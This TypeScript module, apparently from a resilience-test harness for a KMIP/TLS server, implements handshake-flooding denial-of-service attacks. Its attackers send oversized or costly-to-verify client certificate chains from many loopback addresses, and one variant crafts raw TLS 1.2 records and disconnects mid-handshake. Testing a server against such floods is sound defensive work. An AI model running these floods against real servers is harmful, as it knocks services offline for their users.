// Attacks on the handshake: connections that show a costly chain of certificates and leave, from one address or many,
// as fast as the server takes them. None of them needs to be trusted.

import { once } from 'node:events'
import { connect as connectTcp, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { connect as connectTls, createSecureContext } from 'node:tls'
import { clientHello12 } from '../clients/tls-client.ts'
import { chainOfCostly, chainOfSmall, type Chain } from './chains.ts'
import type { Attack, Target } from './target.ts'

/** As many certificates as fit below the 100 KB that OpenSSL takes. */
const smallMax = 355
const costlyMax = 72

export interface Lanes {
  /** Where they come from, each on loopback; with all of IPv4's there are 16 million. */
  readonly addresses: readonly string[]
  /** Connections of each address at the same time. */
  readonly atOnce: number
  /** Handshakes of each lane; without end where left out. */
  readonly handshakes?: number
}

export function loopbackAddresses(count: number): string[] {
  return Array.from({ length: count }, (_, number) => `127.0.0.${number + 1}`)
}

/** Each handshake makes OpenSSL hold 355 certificates. */
export function smallChains(lanes: Lanes): Attack {
  return async (target, signal) => handshakeFlood(target, await chainOfSmall(smallMax), lanes, signal)
}

/** Each handshake makes OpenSSL verify signatures for some hundred milliseconds. */
export function costlyChains(lanes: Lanes & { readonly certificates?: number }): Attack {
  return async (target, signal) =>
    handshakeFlood(target, await chainOfCostly(lanes.certificates ?? costlyMax), lanes, signal)
}

/** The same, but each peer leaves as soon as the chain is sent: no handshake is ever whole. TLS 1.2. */
export function costlyChainsUnfinished(lanes: Lanes): Attack {
  return async (target, signal) => {
    const bytes = Buffer.concat([clientHello12, certificateMessage(await chainOfCostly(costlyMax))])
    await inLanes(lanes, signal, async (from) => {
      const raw = connectTcp({ ...target.kmip, localAddress: from })
      await untilClosed(raw, signal, () => raw.once('connect', () => raw.end(bytes)).resume())
    })
  }
}

async function handshakeFlood(
  { kmip }: Pick<Target, 'kmip'>,
  chain: Chain,
  lanes: Lanes,
  signal: AbortSignal,
): Promise<void> {
  const secureContext = createSecureContext(chain.tls)
  await inLanes(lanes, signal, async (from) => {
    const raw = connectTcp({ ...kmip, localAddress: from })
    const socket = connectTls({ socket: raw, secureContext, rejectUnauthorized: false })
    // The server's first record after the handshake says that it is done on that side too.
    await untilClosed(raw, signal, () => {
      socket.on('error', () => raw.destroy())
      socket.once('session', () => raw.destroy())
    })
  })
}

async function inLanes(
  lanes: Lanes,
  signal: AbortSignal,
  act: (from: string) => Promise<void>,
): Promise<void> {
  const { addresses, atOnce, handshakes = Number.POSITIVE_INFINITY } = lanes
  await Promise.all(
    addresses.flatMap((from) =>
      Array.from({ length: atOnce }, async () => {
        for (let number = 0; number < handshakes && !signal.aborted; number += 1) {
          const before = performance.now()
          await act(from)
          // An attacker that is turned away at once does not spin.
          if (performance.now() - before < 5) await wait(5)
        }
      }),
    ),
  )
}

/** Never rejects; ends the connection when the attack is over. */
async function untilClosed(raw: Socket, signal: AbortSignal, begin: () => void): Promise<void> {
  const stop = (): void => void raw.destroy()
  raw.on('error', () => {
    // Being thrown out is what an attack must expect.
  })
  const closed = once(raw, 'close')
  signal.addEventListener('abort', stop)
  begin()
  await closed.catch(() => undefined)
  signal.removeEventListener('abort', stop)
}

/** RFC 5246 §7.4.2, in records of 16 KB. */
function certificateMessage({ ders }: Chain): Buffer {
  const certificates = ders.map((der) => Buffer.concat([uint24(der.length), der]))
  const list = Buffer.concat(certificates)
  const body = Buffer.concat([uint24(list.length), list])
  const message = Buffer.concat([Buffer.from([11]), uint24(body.length), body])
  const records: Buffer[] = []
  for (let at = 0; at < message.length; at += recordBytes) {
    const part = message.subarray(at, at + recordBytes)
    records.push(Buffer.from([22, 3, 3, part.length >> 8, part.length & 0xff]), part)
  }
  return Buffer.concat(records)
}

const recordBytes = 16 * 1024

function uint24(value: number): Buffer {
  return Buffer.from([value >> 16, (value >> 8) & 0xff, value & 0xff])
}
